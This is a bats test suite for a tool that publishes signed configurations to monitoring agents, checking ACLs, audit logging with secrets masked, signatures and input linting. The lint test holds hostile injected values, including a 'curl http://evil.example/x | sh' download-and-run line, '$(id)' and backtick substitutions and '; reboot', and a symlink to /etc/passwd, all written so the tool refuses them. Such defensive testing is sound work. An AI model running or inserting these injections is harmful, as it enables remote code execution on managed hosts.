@@ -1,0 +1,594 @@
+#!/usr/bin/env bats
+# conf-dist: the unix group ACL (throwaway users and groups when run as
+# root), read-only agents, the lint, the audit events and their diff,
+# publishing compatible with the agent (md5, conf before md5, atomic),
+# Ed25519 signatures, agent uploads through Tentacle, adopt, collections,
+# the registry in MariaDB, and tentacle-recv's certificate binding.
+
+load helpers
+
+SAMPLE=$DATA/samples/remote-config/238cd44ae5e05cc2dd832a79a3f5ddab.conf
+LOADCMD="cat /proc/loadavg | cut -d' ' -f1"	# the module_exec of conf()
+RKEY=238cd44ae5e05cc2dd832a79a3f5ddab	# md5("research-agent-01")
+
+setup_file() {
+	# The agent's client certificate names web01 (CN).
+	export CERTS="$BATS_FILE_TMPDIR/certs"
+	sh "$TOOLS/mkcerts.sh" "$CERTS" web01 >/dev/null
+	chmod 0755 "$CERTS"
+	[ "$(id -u)" -ne 0 ] || chgrp "$RUN_GROUP" "$CERTS"/*.key
+	# Root: an authorised and an unauthorised user, both allowed to
+	# submit into the queue.  Names unique to this run; removed after.
+	if [ "$(id -u)" -eq 0 ]; then
+		export U_OPS="ocd${BATS_ROOT_PID}o" U_ALICE="ocd${BATS_ROOT_PID}a"
+		export U_BOB="ocd${BATS_ROOT_PID}b" U_SUB="ocd${BATS_ROOT_PID}s"
+		teardown_file	# leftovers of a crashed run with this PID
+		groupadd "$U_OPS"
+		groupadd "$U_SUB"
+		useradd -M -N -g "$U_SUB" -G "$U_OPS" -s /usr/sbin/nologin "$U_ALICE"
+		useradd -M -N -g "$U_SUB" -s /usr/sbin/nologin "$U_BOB"
+	fi
+}
+
+teardown_file() {
+	if [ -n "${U_ALICE:-}" ]; then
+		userdel "$U_ALICE" 2>/dev/null || true
+		userdel "$U_BOB" 2>/dev/null || true
+		groupdel "$U_OPS" 2>/dev/null || true
+		groupdel "$U_SUB" 2>/dev/null || true
+	fi
+}
+
+setup() {
+	mk_tmp
+	mk_spool "$T/spool"
+	SP=$T/spool
+	OUT=$SP/conf-dist/out
+	AUD=$SP/audit-sign/new
+	mkdir -p "$T/keys" "$T/bin"
+	[ "$(id -u)" -eq 0 ] && chown "$RUN_USER:$RUN_GROUP" "$T/keys"
+	# A copy anybody can run (the checkout may be closed to others).
+	cp "$BIN/conf-dist" "$T/bin/conf-dist"
+	chmod 0755 "$T/bin" "$T/bin/conf-dist"
+	if [ -n "${U_SUB:-}" ]; then
+		chgrp "$U_SUB" "$SP/conf-dist/submit/tmp" "$SP/conf-dist/submit/new"
+		ME=root
+		ADMIN_GROUP=$U_OPS
+	else
+		ME=$(id -un)
+		ADMIN_GROUP=$(id -gn)
+	fi
+	# Direct runs are by $ME: root's group or the caller's own.
+	mkconf "acl_groups Servers=$ADMIN_GROUP,$( [ "$ME" = root ] && echo root || id -gn)"
+	run cdist keygen
+	assert_success
+}
+
+teardown() {
+	stop_recv
+	[ -d "$T/db" ] && sh "$TOOLS/mariadb.sh" stop "$T/db" >/dev/null 2>&1
+	local bad=0
+	for f in "$T"/*.log; do
+		[ -f "$f" ] || continue
+		if grep -E 'ERROR: AddressSanitizer|runtime error:|LeakSanitizer' "$f" >&2; then
+			bad=1
+		fi
+	done
+	rm -rf "$T"
+	return "$bad"
+}
+
+# mkconf LINE...: the configuration, with extra [conf-dist] lines.
+mkconf() {
+	{
+		echo "spool_dir $SP"
+		echo "[conf-dist]"
+		echo "user $RUN_USER"
+		echo "sign_key $T/keys/sign.key"
+		echo "sign_pubkey $T/keys/sign.pub"
+		for l in "$@"; do
+			echo "$l"
+		done
+	} > "$T/o.conf"
+	chmod 0644 "$T/o.conf"
+}
+
+# cdist ARGS...: conf-dist as the caller; stderr also into cd.log.
+cdist() {
+	"$T/bin/conf-dist" -c "$T/o.conf" "$@" 2> >(tee -a "$T/cd.log" >&2)
+}
+
+# as USER ARGS...: conf-dist as another user (root runs only).
+as() {
+	local u=$1
+	shift
+	setpriv --reuid="$u" --regid="$(id -g "$u")" --init-groups -- \
+	    "$T/bin/conf-dist" -c "$T/o.conf" "$@" 2> >(tee -a "$T/cd.log" >&2)
+}
+
+# events: every audit event queued so far, one per line.
+events() {
+	cat "$AUD"/* 2>/dev/null
+}
+
+# valid_json: every audit line parses as JSON.
+valid_json() {
+	events | perl -MJSON::PP -ne 'JSON::PP->new->decode($_); END { print "ok\n" }'
+}
+
+# conf FILE AGENT [extra lines]: a small valid configuration.
+conf() {
+	local f=$1 a=$2
+	shift 2
+	{
+		echo "# test configuration"
+		echo "server_ip 127.0.0.1"
+		echo "server_pwd S3cr3t-Pw"
+		echo "group_password Gr0up-Pw"
+		echo "agent_name $a"
+		echo "group Servers"
+		echo "interval 600"
+		echo "remote_config 1"
+		echo "module_begin"
+		echo "module_name Load"
+		echo "module_type generic_data"
+		echo "module_exec $LOADCMD"
+		echo "module_end"
+		for l in "$@"; do
+			echo "$l"
+		done
+	} > "$f"
+	chmod 0644 "$f"
+}
+
+@test "usage, version, configuration check (unknown keys 78, unknown groups a warning)" {
+	run "$BIN/conf-dist" -h
+	assert_success
+	assert_output --partial "usage: conf-dist"
+	run "$BIN/conf-dist" -V
+	assert_output --regexp '^conf-dist [0-9]+\.[0-9]+\.[0-9]+$'
+	run "$BIN/conf-dist" -c "$T/o.conf" bogus
+	assert_equal "$status" 64
+	run cdist -n
+	assert_success
+	assert_output --partial "configuration ok"
+	printf 'spool_dir %s\n[conf-dist]\nacl_grups x=y\n' "$SP" > "$T/bad.conf"
+	run "$BIN/conf-dist" -c "$T/bad.conf" -n
+	assert_equal "$status" 78
+	assert_output --partial "unknown key 'acl_grups'"
+	# A group that does not exist admits nobody, and -n says so.
+	printf 'spool_dir %s\n[conf-dist]\nacl_groups Servers=no-such-group-xyz\n' "$SP" > "$T/bad.conf"
+	run "$BIN/conf-dist" -c "$T/bad.conf" -n
+	assert_success
+	assert_output --partial "no such unix group 'no-such-group-xyz'"
+	# The sample configuration parses.
+	sed "s|^spool_dir .*|spool_dir $SP|" "$BATS_TEST_DIRNAME/../etc/octospool.conf" > "$T/sample.conf"
+	run "$BIN/conf-dist" -c "$T/sample.conf" -n
+	assert_success
+	assert_output --partial "configuration ok"
+}
+
+@test "keygen: private key 0600 owned by the service user; no overwrite without -f" {
+	run stat -c '%a %U' "$T/keys/sign.key"
+	assert_output "600 $RUN_USER"
+	run cdist keygen
+	assert_equal "$status" 73
+	assert_output --partial "keygen -f"
+	run cdist keygen -f
+	assert_success
+	chmod 0640 "$T/keys/sign.key"
+	conf "$T/a.conf" web01
+	run cdist submit web01 "$T/a.conf"
+	assert_equal "$status" 78
+	assert_output --partial "must be 0600"
+}
+
+@test "publish: md5 as md5sum computes it, 32 bytes, signatures verify, one changed byte fails" {
+	run cdist submit research-agent-01 "$SAMPLE"
+	assert_success
+	assert_output --partial "published research-agent-01"
+	cmp "$SAMPLE" "$OUT/conf/$RKEY.conf"
+	# The real agent's own md5 file for this configuration.
+	cmp "$DATA/samples/remote-config/$RKEY.md5" "$OUT/md5/$RKEY.md5"
+	assert_equal "$(cat "$OUT/md5/$RKEY.md5")" "$(md5sum < "$SAMPLE" | cut -c1-32)"
+	assert_equal "$(stat -c %s "$OUT/md5/$RKEY.md5")" 32
+	assert_equal "$(printf %s research-agent-01 | md5sum | cut -c1-32)" "$RKEY"
+	for f in "$OUT/conf/$RKEY.conf" "$OUT/md5/$RKEY.md5"; do
+		assert_equal "$(stat -c %s "$f.sig")" 64
+		run openssl pkeyutl -verify -pubin -inkey "$T/keys/sign.pub" -rawin -in "$f" -sigfile "$f.sig"
+		assert_success
+		assert_output --partial "Signature Verified Successfully"
+	done
+	run cdist verify "$OUT/conf/$RKEY.conf" "$OUT/md5/$RKEY.md5"
+	assert_success
+	assert_line "$OUT/conf/$RKEY.conf: signature ok"
+	# One byte changed: both verifiers say no.
+	cp "$OUT/conf/$RKEY.conf" "$T/x.conf"
+	cp "$OUT/conf/$RKEY.conf.sig" "$T/x.conf.sig"
+	printf 'X' | dd of="$T/x.conf" bs=1 seek=100 conv=notrunc 2>/dev/null
+	run openssl pkeyutl -verify -pubin -inkey "$T/keys/sign.pub" -rawin -in "$T/x.conf" -sigfile "$T/x.conf.sig"
+	assert_failure
+	run cdist verify "$T/x.conf"
+	assert_equal "$status" 65
+	assert_output --partial "BAD signature"
+	# The same configuration again: nothing to do, and said so.
+	run cdist submit research-agent-01 "$SAMPLE"
+	assert_success
+	assert_output --partial "unchanged research-agent-01"
+	run events
+	assert_equal "$(events | grep -c '"action":"config.publish","outcome":"published"')" 1
+	assert_equal "$(events | grep -c '"outcome":"unchanged"')" 1
+	events | grep '"outcome":"published"' | grep -q "\"agent\":\"research-agent-01\",\"key\":\"$RKEY\",\"submitter\":\"$ME\""
+	run valid_json
+	assert_output ok
+}
+
+@test "conf is published before md5: a crash between the two renames never shows a new md5 with an old conf" {
+	conf "$T/v1.conf" web01
+	conf "$T/v2.conf" web01 "module_plugin /usr/bin/v2plugin"
+	key=$(printf %s web01 | md5sum | cut -c1-32)
+	run cdist submit web01 "$T/v1.conf"
+	assert_success
+	old=$(md5sum < "$T/v1.conf" | cut -c1-32)
+	new=$(md5sum < "$T/v2.conf" | cut -c1-32)
+	# Stop right after the conf's rename, before the md5 is written.
+	PIPELINE_CRASH_AT=conf-published run cdist submit web01 "$T/v2.conf"
+	assert_equal "$status" 99
+	cmp "$T/v2.conf" "$OUT/conf/$key.conf"
+	assert_equal "$(cat "$OUT/md5/$key.md5")" "$old"
+	# The agent compares md5s: it sees no change yet, and fetches
+	# nothing half-done.  A new run finishes the pair.
+	run cdist submit web01 "$T/v2.conf"
+	assert_success
+	assert_equal "$(cat "$OUT/md5/$key.md5")" "$new"
+	cmp "$T/v2.conf" "$OUT/conf/$key.conf"
+	run cdist verify "$OUT/conf/$key.conf" "$OUT/md5/$key.md5"
+	assert_success
+	# Nothing but published files and their signatures (no temp files).
+	run ls -A "$OUT/conf" "$OUT/md5"
+	refute_output --partial ".web01"
+	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 2
+}
+
+@test "a submission by a user outside the allowed group is refused, audited, nothing published" {
+	conf "$T/a.conf" web01
+	if [ -n "${U_BOB:-}" ]; then
+		# Through the queue: the file's owner is the submitter.
+		run as "$U_BOB" submit web01 "$T/a.conf"
+		assert_success
+		assert_output --partial "queued submit for web01"
+		f=$(ls "$SP/conf-dist/submit/new")
+		assert_equal "$(stat -c %U "$SP/conf-dist/submit/new/$f")" "$U_BOB"
+		run cdist drain
+		assert_success
+		assert_file_exists "$SP/conf-dist/submit/reject/$f"
+		grep -q "^reason=user $U_BOB may not configure agents of group 'Servers'" \
+		    "$SP/conf-dist/submit/reject/$f.reason"
+		who=$U_BOB
+	else
+		mkconf "acl_groups Servers=root"
+		run cdist submit web01 "$T/a.conf"
+		assert_equal "$status" 77
+		who=$ME
+	fi
+	assert_equal "$(ls -A "$OUT/conf" "$OUT/md5" | grep -c web01)" 0
+	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
+	assert_equal "$(ls -A "$OUT/md5" | wc -l)" 0
+	run events
+	assert_output --partial '"action":"config.publish","outcome":"refused"'
+	assert_output --partial "\"submitter\":\"$who\""
+	assert_output --partial "may not configure agents of group 'Servers'"
+	# What was attempted is on record, the secrets are not.
+	assert_output --partial "\"field\":\"module[Load].module_exec\",\"old\":null,\"new\":\"$LOADCMD\",\"command\":true}"
+	refute_output --partial "S3cr3t-Pw"
+	refute_output --partial "Gr0up-Pw"
+}
+
+@test "an authorised user's queued submission is published under that user's name" {
+	[ -n "${U_ALICE:-}" ] || skip "needs root for throwaway users"
+	conf "$T/a.conf" web01
+	run as "$U_ALICE" submit web01 "$T/a.conf"
+	assert_success
+	# A file a submitter drops into the queue: its agent_name names it.
+	conf "$T/b.conf" web02
+	setpriv --reuid="$U_ALICE" --regid="$U_SUB" --init-groups -- \
+	    sh -c "cp '$T/b.conf' '$SP/conf-dist/submit/tmp/drop' && mv '$SP/conf-dist/submit/tmp/drop' '$SP/conf-dist/submit/new/drop'"
+	# Someone else's file made writable for others is not trusted.
+	conf "$T/c.conf" web03
+	cp "$T/c.conf" "$SP/conf-dist/submit/new/zz-writable"
+	chmod 0666 "$SP/conf-dist/submit/new/zz-writable"
+	run cdist drain
+	assert_success
+	assert_file_exists "$OUT/conf/$(printf %s web01 | md5sum | cut -c1-32).conf"
+	assert_file_exists "$OUT/conf/$(printf %s web02 | md5sum | cut -c1-32).conf"
+	assert_file_not_exists "$OUT/conf/$(printf %s web03 | md5sum | cut -c1-32).conf"
+	assert_file_exists "$SP/conf-dist/submit/reject/zz-writable.reason"
+	assert_equal "$(ls -A "$SP/conf-dist/submit/new" | wc -l)" 0
+	run events
+	assert_output --regexp "\"outcome\":\"published\",\"agent\":\"web01\",[^}]*\"submitter\":\"$U_ALICE\",\"uid\":$(id -u "$U_ALICE"),\"via\":\"queue\""
+	assert_output --regexp "\"outcome\":\"published\",\"agent\":\"web02\",[^}]*\"submitter\":\"$U_ALICE\""
+}
+
+@test "a read-only agent is refused (readonly_agents), audited, nothing published" {
+	mkconf "acl_groups Servers=$ADMIN_GROUP,root,$(id -gn)" "readonly_agents db-* payments01"
+	conf "$T/a.conf" payments01
+	run cdist submit payments01 "$T/a.conf"
+	assert_equal "$status" 77
+	assert_output --partial "agent is read-only (config)"
+	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
+	run events
+	assert_output --partial '"outcome":"refused","agent":"payments01"'
+	assert_output --partial '"read_only":"config"'
+}
+
+@test "a lint failure is refused with the line, audited, nothing published" {
+	conf "$T/a.conf" web01 \
+	    'server_opts -c ; curl http://evil.example/x | sh' \
+	    'temporal /tmp/$(id)' \
+	    'pandora_nice 10; reboot' \
+	    'agent_name_cmd hostname `id`' \
+	    'include relative/*.conf' \
+	    'udp_server 1'
+	run cdist submit web01 "$T/a.conf"
+	assert_equal "$status" 65
+	assert_output --partial "line 14: server_opts: shell metacharacter ';'"
+	assert_output --partial "line 15: temporal: shell metacharacter '\$'"
+	assert_output --partial "line 16: pandora_nice: not a number in range"
+	assert_output --partial "line 17: agent_name_cmd: shell metacharacter '\`'"
+	assert_output --partial "line 18: include: not an absolute path"
+	assert_output --partial "line 19: udp_server: opens a listener"
+	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
+	run events
+	assert_output --partial '"outcome":"refused","agent":"web01"'
+	assert_output --partial '"reason":"lint: line 14: server_opts: shell metacharacter'
+	assert_output --partial '"lint":["line 14: server_opts'
+	# A token allowed by the administrator passes; syntax errors never do.
+	mkconf "acl_groups Servers=$ADMIN_GROUP,root,$(id -gn)" "lint_allow agent_name_cmd"
+	conf "$T/b.conf" web01 'agent_name_cmd hostname -f | tr A-Z a-z'
+	run cdist submit web01 "$T/b.conf"
+	assert_success
+	printf 'agent_name web01\ngroup Servers\nmodule_begin\nmodule_name x\nmodule_exec true\n' > "$T/c.conf"
+	run cdist lint web01 "$T/c.conf"
+	assert_equal "$status" 65
+	assert_output --partial "line 3: module_begin has no module_end"
+	printf 'agent_name web09\ngroup Servers\n' > "$T/d.conf"
+	run cdist lint web01 "$T/d.conf"
+	assert_output --partial "line 1: agent_name is not 'web01'"
+	run cdist lint "$SAMPLE"
+	assert_success
+}
+
+@test "the audit diff of a change names module_exec added and interval altered, old and new; secrets never appear" {
+	conf "$T/v1.conf" web01 "secondary_server_opts -x Sec0nd-Pw -v"
+	run cdist submit web01 "$T/v1.conf"
+	assert_success
+	conf "$T/v2.conf" web01 "secondary_server_opts -x Sec0nd-Pw2 -v" \
+	    "module_begin" "module_name Pushed" "module_type generic_data" \
+	    "module_exec echo 99; logger pushed" "module_end"
+	sed -i 's/^interval 600$/interval 300/; s/^server_pwd .*/server_pwd N3w-Pw/; s/^group_password .*/group_password N3w-Gr0up/' "$T/v2.conf"
+	run cdist submit web01 "$T/v2.conf"
+	assert_success
+	ev=$(events | grep '"old_md5":"[0-9a-f]\{32\}"')
+	[ -n "$ev" ]
+	run echo "$ev"
+	assert_output --partial '{"field":"interval","old":"600","new":"300"}'
+	assert_output --partial '{"field":"module[Pushed].module_exec","old":null,"new":"echo 99; logger pushed","command":true}'
+	assert_output --partial '{"field":"module[Pushed].module_name","old":null,"new":"Pushed"}'
+	assert_output --partial '{"field":"server_pwd","old":"********","new":"********"}'
+	assert_output --partial '{"field":"group_password","old":"********","new":"********"}'
+	assert_output --partial '{"field":"secondary_server_opts","old":"-x ******** (changed)","new":"-x ******** (changed)"}'
+	refute_output --partial '"field":"agent_name"'
+	# Removed: the old command with its value, the new one null.
+	conf "$T/v3.conf" web01
+	sed -i '/^module_exec/d' "$T/v3.conf"
+	echo "module_begin" >> "$T/v3.conf"
+	run cdist submit web01 "$T/v3.conf"
+	assert_failure
+	sed -i '$d' "$T/v3.conf"
+	sed -i 's/^module_type generic_data$/module_type generic_data\nmodule_exec uptime/' "$T/v3.conf"
+	run cdist submit web01 "$T/v3.conf"
+	assert_success
+	run sh -c "cat '$AUD'/* | tail -1"
+	assert_output --partial "{\"field\":\"module[Load].module_exec\",\"old\":\"$LOADCMD\",\"new\":\"uptime\",\"command\":true}"
+	assert_output --partial '{"field":"module[Pushed].module_exec","old":"echo 99; logger pushed","new":null,"command":true}'
+	# No secret anywhere: audit events, logs, stdout.
+	for s in S3cr3t-Pw Gr0up-Pw N3w-Pw N3w-Gr0up Sec0nd-Pw; do
+		run grep -rl -- "$s" "$AUD" "$T/cd.log"
+		assert_failure
+	done
+	run valid_json
+	assert_output ok
+}
+
+@test "agent uploads over Tentacle land in uploads/, RECV still serves the published version; adopt strips secrets" {
+	start_recv -F "$T/empty.conf" --spool "$SP"
+	conf "$T/agent.conf" research-agent-01 "module_plugin planted-by-agent"
+	md5sum < "$T/agent.conf" | cut -c1-32 | tr -d '\n' > "$T/agent.md5"
+	mkdir "$T/up"
+	cp "$T/agent.conf" "$T/up/$RKEY.conf"
+	cp "$T/agent.md5" "$T/up/$RKEY.md5"
+	mkdir "$T/fetch"
+	cd "$T/fetch"
+	# Nothing published yet: the agent's first-time path.
+	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g "$RKEY.md5"
+	assert_failure
+	assert_output --partial "file does not exist"
+	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" "$T/up/$RKEY.conf" "$T/up/$RKEY.md5"
+	assert_success
+	assert_equal "$(count "$SP"/conf-dist/uploads/new/*."$RKEY".conf)" 1
+	assert_equal "$(count "$SP"/conf-dist/uploads/new/*."$RKEY".md5)" 1
+	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
+	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g "$RKEY.conf"
+	assert_failure
+	# Published: RECV serves it, the upload changes nothing.
+	run cdist submit research-agent-01 "$SAMPLE"
+	assert_success
+	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" "$T/up/$RKEY.conf"
+	assert_success
+	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g "$RKEY.md5" "$RKEY.conf"
+	assert_success
+	cmp "$SAMPLE" "$RKEY.conf"
+	cmp "$DATA/samples/remote-config/$RKEY.md5" "$RKEY.md5"
+	run cdist uploads
+	assert_success
+	assert_line --partial "name=$RKEY.conf agent=\"research-agent-01\" key_matches=yes peer=127.0.0.1"
+	assert_equal "$(echo "$output" | grep -c "name=$RKEY")" 3
+	# -p shows what adopt would publish: no secrets, nothing published.
+	run cdist adopt -p research-agent-01
+	assert_success
+	assert_output --partial "module_plugin planted-by-agent"
+	assert_output --partial "# server_pwd removed by conf-dist adopt"
+	refute_output --partial "S3cr3t-Pw"
+	refute_output --partial "Gr0up-Pw"
+	cmp "$SAMPLE" "$OUT/conf/$RKEY.conf"
+	run cdist adopt research-agent-01
+	assert_success
+	assert_output --partial "published research-agent-01"
+	run grep -c 'S3cr3t-Pw\|Gr0up-Pw' "$OUT/conf/$RKEY.conf"
+	assert_output 0
+	grep -q '^module_plugin planted-by-agent$' "$OUT/conf/$RKEY.conf"
+	assert_equal "$(ls -A "$SP/conf-dist/uploads/new" | wc -l)" 0
+	run events
+	assert_output --regexp '"action":"config.adopt","outcome":"published"[^}]*"upload_peer":"127.0.0.1"[^}]*"secrets_stripped":2'
+	assert_output --partial '{"field":"module_plugin","old":null,"new":"planted-by-agent","command":true}'
+	refute_output --partial "S3cr3t-Pw"
+	run cdist adopt research-agent-01
+	assert_equal "$status" 66
+	assert_output --partial "no upload of $RKEY.conf"
+}
+
+@test "with client certificates: web01's certificate gets web01's conf and md5, never db01's" {
+	mkconf "acl_groups Servers=$ADMIN_GROUP,root,$(id -gn)"
+	conf "$T/web01.conf" web01
+	conf "$T/db01.conf" db01
+	run cdist submit web01 "$T/web01.conf"
+	assert_success
+	run cdist submit db01 "$T/db01.conf"
+	assert_success
+	w=$(printf %s web01 | md5sum | cut -c1-32)
+	d=$(printf %s db01 | md5sum | cut -c1-32)
+	# The signatures are served too, each beside its file.
+	start_recv -F "$T/empty.conf" --spool "$SP" -e "$CERTS/server.crt" \
+	    -k "$CERTS/server.key" -f "$CERTS/ca.crt" \
+	    -i '.*\.conf:conf;.*\.md5:md5;.*\.zip:collections;.*\.conf\.sig:conf;.*\.md5\.sig:md5;.*\.zip\.sig:collections'
+	tls=(-a 127.0.0.1 -p "$PORT" -e "$CERTS/client.crt" -k "$CERTS/client.key" -f "$CERTS/ca.crt")
+	mkdir "$T/fetch"
+	cd "$T/fetch"
+	run "$BIN/tentacle-send" "${tls[@]}" -g "$w.md5" "$w.conf" "$w.conf.sig"
+	assert_success
+	cmp "$T/web01.conf" "$w.conf"
+	cmp "$OUT/md5/$w.md5" "$w.md5"
+	for n in "$d.md5" "$d.conf" "$d.conf.sig"; do
+		run "$BIN/tentacle-send" "${tls[@]}" -g "$n"
+		assert_failure
+		assert_output --partial "file does not exist"
+		assert_file_not_exists "$n"
+	done
+	# ZRECV alike; and the refusal is logged and audited as what it is.
+	run "$BIN/tentacle-send" "${tls[@]}" -z -g "$d.conf"
+	assert_failure
+	grep -q "event=recv.unbound name=\"$d.conf\"" "$T/recv.log"
+	grep -q '"action":"file.served","outcome":"refused".*certificate not bound' "$AUD"/*
+	# Collections are not agent-bound.
+	mkdir -p "$T/coll/plugins"
+	printf '#!/bin/sh\necho 1\n' > "$T/coll/plugins/p.sh"
+	mkconf "acl_groups Servers=$ADMIN_GROUP,root,$(id -gn)" "acl_collections *=root,$(id -gn)"
+	run cdist collection publish fc_1 "$T/coll"
+	assert_success
+	run "$BIN/tentacle-send" "${tls[@]}" -g fc_1.md5 fc_1.zip
+	assert_success
+	stop_recv
+	# Without client certificates: the stock (weaker) behaviour.
+	start_recv -F "$T/empty.conf" --spool "$SP"
+	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g "$d.conf"
+	assert_success
+}
+
+@test "collections: zip and md5 as the agent expects, files and SHA-256 audited, bad names and links refused" {
+	mkconf "acl_collections fc_*=root,$(id -gn)"
+	mkdir -p "$T/coll/sub"
+	printf '#!/bin/sh\necho plugin\n' > "$T/coll/plugin.sh"
+	chmod 0755 "$T/coll/plugin.sh"
+	printf 'data\n' > "$T/coll/sub/data.txt"
+	run cdist collection publish fc_7 "$T/coll"
+	assert_success
+	assert_output --partial "collection fc_7 published (2 files"
+	assert_equal "$(cat "$OUT/md5/fc_7.md5")" "$(md5sum < "$OUT/collections/fc_7.zip" | cut -c1-32)"
+	run cdist verify "$OUT/collections/fc_7.zip" "$OUT/md5/fc_7.md5"
+	assert_success
+	# What the agent runs: unzip -d DIR.
+	mkdir "$T/agent"
+	run unzip -d "$T/agent/fc_7" "$OUT/collections/fc_7.zip"
+	assert_success
+	cmp "$T/coll/plugin.sh" "$T/agent/fc_7/plugin.sh"
+	cmp "$T/coll/sub/data.txt" "$T/agent/fc_7/sub/data.txt"
+	[ -x "$T/agent/fc_7/plugin.sh" ]
+	run events
+	assert_output --partial "{\"path\":\"plugin.sh\",\"sha256\":\"$(sha256sum < "$T/coll/plugin.sh" | cut -c1-64)\",\"size\":22,\"mode\":\"0755\"}"
+	assert_output --partial "{\"path\":\"sub/data.txt\",\"sha256\":\"$(sha256sum < "$T/coll/sub/data.txt" | cut -c1-64)\""
+	# The same directory again is the same archive.
+	run cdist collection publish fc_7 "$T/coll"
+	assert_output --partial "collection fc_7 unchanged"
+	for bad in ../x a/b .. fc_.. 238cd44ae5e05cc2dd832a79a3f5ddab; do
+		run cdist collection publish "$bad" "$T/coll"
+		assert_failure
+	done
+	ln -s /etc/passwd "$T/coll/link"
+	run cdist collection publish fc_8 "$T/coll"
+	assert_equal "$status" 65
+	assert_output --partial "link: a symbolic link (refused)"
+	rm "$T/coll/link"
+	# The ACL: only fc_* for this caller.
+	run cdist collection publish other "$T/coll"
+	assert_equal "$status" 77
+	assert_file_not_exists "$OUT/collections/other.zip"
+	assert_file_not_exists "$OUT/collections/fc_8.zip"
+	run events
+	assert_output --partial '"action":"collection.publish","outcome":"refused"'
+}
+
+@test "the registry: read_only and group come from MariaDB (octo_agent_policy, tagente, tgrupo)" {
+	command -v mariadbd >/dev/null || command -v mysqld >/dev/null || skip "no MariaDB server"
+	DBDIR=$T/db
+	run env OCTO_DB_GROUP="$RUN_GROUP" sh "$TOOLS/mariadb.sh" start "$DBDIR"
+	assert_success
+	. "$DBDIR/env"
+	sql() { sh "$TOOLS/mariadb.sh" sql "$DBDIR" -N -B -e "$1" pandora; }
+	sql "INSERT INTO tagente (id_agente, nombre, alias, id_grupo) VALUES
+	    (1, 'pay&#x20;db', 'pay db', 8), (2, 'web01', 'web01', 2);
+	    INSERT INTO octo_agent_policy (id_agente, read_only) VALUES (1, 1)"
+	{
+		echo "spool_dir $SP"
+		cat "$OCTO_DB_CONF"
+		echo "[conf-dist]"
+		echo "user $RUN_USER"
+		echo "sign_key $T/keys/sign.key"
+		echo "sign_pubkey $T/keys/sign.pub"
+		echo "registry db"
+		echo "db_user octo_agent_auth"
+		echo "db_password_file $DBDIR/secrets/octo_agent_auth.pw"
+		echo "acl_groups Servers=root,$(id -gn)"
+	} > "$T/o.conf"
+	conf "$T/a.conf" "pay db"
+	run cdist submit "pay db" "$T/a.conf"
+	assert_equal "$status" 77
+	assert_output --partial "may not configure agents of group 'Databases'"
+	echo "acl_groups Servers=root,$(id -gn); Databases=root,$(id -gn)" >> "$T/o.conf"
+	run cdist submit "pay db" "$T/a.conf"
+	assert_equal "$status" 77
+	assert_output --partial "agent is read-only (registry)"
+	run cdist submit web01 "$T/a.conf"
+	assert_equal "$status" 65	# agent_name is "pay db"
+	conf "$T/w.conf" web01
+	run cdist submit web01 "$T/w.conf"
+	assert_success
+	run events
+	assert_output --partial '"read_only":"registry"'
+	# Registry down: a temporary failure, nothing published, no guess.
+	sh "$TOOLS/mariadb.sh" stop "$DBDIR"
+	sed -i 's/^\[conf-dist\]$/[conf-dist]\ndb_retry_time 0/' "$T/o.conf"
+	conf "$T/w2.conf" web01 "module_plugin later"
+	run cdist submit web01 "$T/w2.conf"
+	assert_equal "$status" 75
+	cmp "$T/w.conf" "$OUT/conf/$(printf %s web01 | md5sum | cut -c1-32).conf"
+}
